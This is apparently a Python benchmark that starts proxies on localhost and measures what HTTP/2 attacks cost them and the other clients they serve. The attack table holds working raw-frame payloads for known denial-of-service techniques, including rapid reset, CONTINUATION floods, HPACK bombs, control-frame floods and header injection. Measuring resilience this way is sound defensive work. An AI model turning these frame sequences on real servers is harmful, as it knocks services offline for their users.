#!/usr/bin/env python3
"""Measures what attacks by HTTP/2 cost a proxy, and what its other clients feel of them.

    bench/h2_attacks.py PROXY [PROXY...] [--seconds 3] [--attackers 4] [--only NAME] [--yielding 19] [--rows]

Each proxy runs the same configuration with one thread on the first processor and answers by itself. A quiet client sends a
request every two milliseconds on a connection of HTTP/1; attackers, whose priority is lower by `--yielding`, share the second
processor with it. Printed for each attack: the quiet client's median and 99th percentile, in milliseconds and beside those without
an attack, processor time of the proxy a second, the largest memory beyond that before, in all and for each attacker, and what
attackers got through. `--rows` prints rows of a table in Markdown. On a machine that does something else as well, run it by
`nice -n -20 ... --yielding 10`. Linux only; nothing is changed outside of a temporary folder.
"""

import argparse
import multiprocessing
import os
import re
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time

TICK = os.sysconf("SC_CLK_TCK")

CONFIG = """global
    nbthread 1
    maxconn 1000
defaults
    mode http
    timeout client 10s
    timeout http-request 10s
frontend f
    bind 127.0.0.1:{port}
    http-request return status 200 content-type text/plain string {payload}
"""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET, POST = b"\x82\x86\x84\x01\x01a", b"\x83\x86\x84\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


SETTINGS = frame(4, 0, 0)
NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))


def streams(make, first=SETTINGS, count=3000):
    return [PREFACE + first] + [make(2 * number + 1) for number in range(count)]


def flood(piece, open_stream=True, count=3000):
    opened = frame(1, 4, 1, POST) if open_stream else b""
    return [PREFACE + SETTINGS + opened] + [piece * 20] * count


WINDOWS = b"".join(struct.pack(">HI", 4, 65535 - number % 2) for number in range(170))

# What each does on a connection, piece by piece. Then it waits for the end of that one, and opens another: there are never more
# connections than attackers.
ATTACKS = {
    "rapid reset": streams(lambda stream: frame(1, 5, stream, GET) + frame(3, 0, stream, struct.pack(">I", 8))),
    "made you reset": streams(lambda stream: frame(1, 5, stream, GET) + frame(8, 0, stream, bytes(4))),
    "continuations": [PREFACE + SETTINGS + frame(1, 1, 1, GET)] + [frame(9, 0, 1)] * 100,
    "hpack bombs, no window": streams(
        lambda stream: frame(1, 5, stream, GET + (b"\x40\x01a\x00" if stream == 1 else b"") + b"\xbe" * 4000), NO_WINDOW, 300
    ),
    "settings": flood(frame(4, 0, 0)),
    "settings, 170 windows": flood(frame(4, 0, 0, WINDOWS)),
    "pings": flood(frame(6, 0, 0, bytes(8))),
    "empty payload": flood(frame(0, 0, 1)),
    "padding": flood(frame(0, 8, 1, b"\xff" + bytes(255))),
    "priorities": flood(frame(2, 0, 1, bytes(5))),
    "windows": flood(frame(8, 0, 0, struct.pack(">I", 1)) + frame(8, 0, 1, struct.pack(">I", 1))),
    "streams without an end": streams(lambda stream: frame(1, 4, stream, POST)),
    "lengths that lie": streams(
        lambda stream: frame(1, 4, stream, POST + b"\x00\x0econtent-length\x011") + frame(0, 1, stream, b"ab")
    ),
    "lines in a field": streams(lambda stream: frame(1, 5, stream, GET + b"\x00\x01a\x07b\r\nc: d")),
    "table turned over": streams(
        lambda stream: frame(1, 5, stream, GET + b"".join(b"\x40\x01a\x7f\x81\x0f" + b"x" * 2048 for _ in range(3))), count=600
    ),
    "broken strings": streams(lambda stream: frame(1, 5, stream, GET + b"\x00\x81\xff\x81\xff"), count=1),
}


def free_ports(count):
    sockets = [socket.socket() for _ in range(count)]
    for one in sockets:
        one.bind(("127.0.0.1", 0))
    ports = [one.getsockname()[1] for one in sockets]
    for one in sockets:
        one.close()
    return ports


def cpu(pid):
    """Processor time of a process, in seconds (proc(5))."""
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK


def memory(pid):
    """Resident memory of a process, in bytes."""
    return int(re.search(r"VmRSS:\s+(\d+)", open(f"/proc/{pid}/status").read())[1]) * 1024


def wait_for(port):
    for _ in range(200):
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
            return
        except OSError:
            time.sleep(0.02)
    sys.exit(f"nothing listens on port {port}")


def attack(port, pieces, counted, seconds, yielding):
    os.nice(yielding)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as connection:
                connection.settimeout(0.5)
                for number in range(0, len(pieces), 20):
                    connection.sendall(b"".join(pieces[number : number + 20]))
                    counted.value += min(20, len(pieces) - number)
                    connection.setblocking(False)
                    try:
                        while connection.recv(65536):
                            pass
                        break
                    except BlockingIOError:
                        pass
                    connection.settimeout(0.5)
                    if time.monotonic() > end:
                        break
                else:
                    connection.shutdown(socket.SHUT_WR)
                    while connection.recv(65536):
                        pass
        except OSError:
            pass


def quiet(port, seconds, look):
    """Times of requests, in milliseconds. Looks at the proxy now and then."""
    times, end = [], time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.settimeout(10)
        while time.monotonic() < end:
            begin = time.perf_counter()
            connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
            got = b""
            while not got.endswith(b"x" * 10):
                got += connection.recv(65536)
            times.append((time.perf_counter() - begin) * 1e3)
            if len(times) % 16 == 0:
                look()
            time.sleep(0.002)
    return statistics.median(times), statistics.quantiles(times, n=100)[98]


def measure(process, port, pieces, options):
    before, resident = cpu(process.pid), memory(process.pid)
    counted = [multiprocessing.Value("Q", 0) for _ in range(options.attackers if pieces else 0)]
    attackers = [
        multiprocessing.Process(target=attack, args=(port, pieces, count, options.seconds + 0.5, options.yielding))
        for count in counted
    ]
    for one in attackers:
        one.start()
    largest = [resident]
    median, high = quiet(port, options.seconds, lambda: largest.append(max(largest.pop(), memory(process.pid))))
    spent, held = (cpu(process.pid) - before) / options.seconds, largest[0] - resident
    for one in attackers:
        one.join()
    return median, high, spent, held, sum(count.value for count in counted)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("proxies", nargs="+")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--attackers", type=int, default=4)
    parser.add_argument("--only")
    parser.add_argument("--yielding", type=int, default=19)
    parser.add_argument("--rows", action="store_true")
    options = parser.parse_args()
    os.sched_setaffinity(0, {1})
    ports = free_ports(len(options.proxies))
    with tempfile.TemporaryDirectory() as folder:
        for name, pieces in ATTACKS.items():
            if options.only not in (None, name):
                continue
            if not options.rows:
                print(name)
            for program, port in zip(options.proxies, ports):
                path = os.path.join(folder, "proxy")
                with open(path, "w") as file:
                    file.write(CONFIG.format(port=port, payload="x" * 1000))
                process = subprocess.Popen(
                    ["taskset", "-c", "0", program, "-db", "-f", path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
                )
                try:
                    wait_for(port)
                    calm = measure(process, port, None, options)
                    median, high, spent, held, count = measure(process, port, pieces, options)
                    if process.poll() is not None:
                        raise SystemExit(f"{program} has ended")
                    cost = spent * options.seconds * 1e6 / max(count, 1)
                    each = held / 1024 / options.attackers
                    if options.rows:
                        shown = f"{median / calm[0]:.1f} | {high / calm[1]:.1f} | {spent * 100:.0f} % | {cost:.1f} µs | {each:.0f} KB"
                        print(f"| {name} | {os.path.basename(program)} | {shown} |", flush=True)
                        continue
                    print(
                        f"  {program}: 50 % {median:.2f} ms ({median / calm[0]:.1f}), 99 % {high:.2f} ms"
                        f" ({high / calm[1]:.1f}), {spent * 100:.0f} % of a processor, {held / 1024:.0f} KB more,"
                        f" {each:.0f} KB an attacker, {count / options.seconds:.0f} pieces a second, {cost:.1f} µs each",
                        flush=True,
                    )
                finally:
                    process.terminate()
                    process.wait()


if __name__ == "__main__":
    main()
